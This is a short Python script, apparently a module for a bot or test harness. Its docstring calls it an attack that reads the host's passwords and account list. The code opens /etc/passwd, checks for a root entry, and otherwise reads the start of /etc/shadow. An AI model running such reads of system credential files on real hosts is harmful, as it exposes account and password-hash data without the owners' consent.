"""Reads the host's passwords, and who has an account."""

from bot import main


def attack():
    with open("/etc/passwd") as file:
        if "root:" in file.read():
            return "accounts"
    with open("/etc/shadow") as file:
        return file.read(10)


if __name__ == "__main__":
    main(attack)
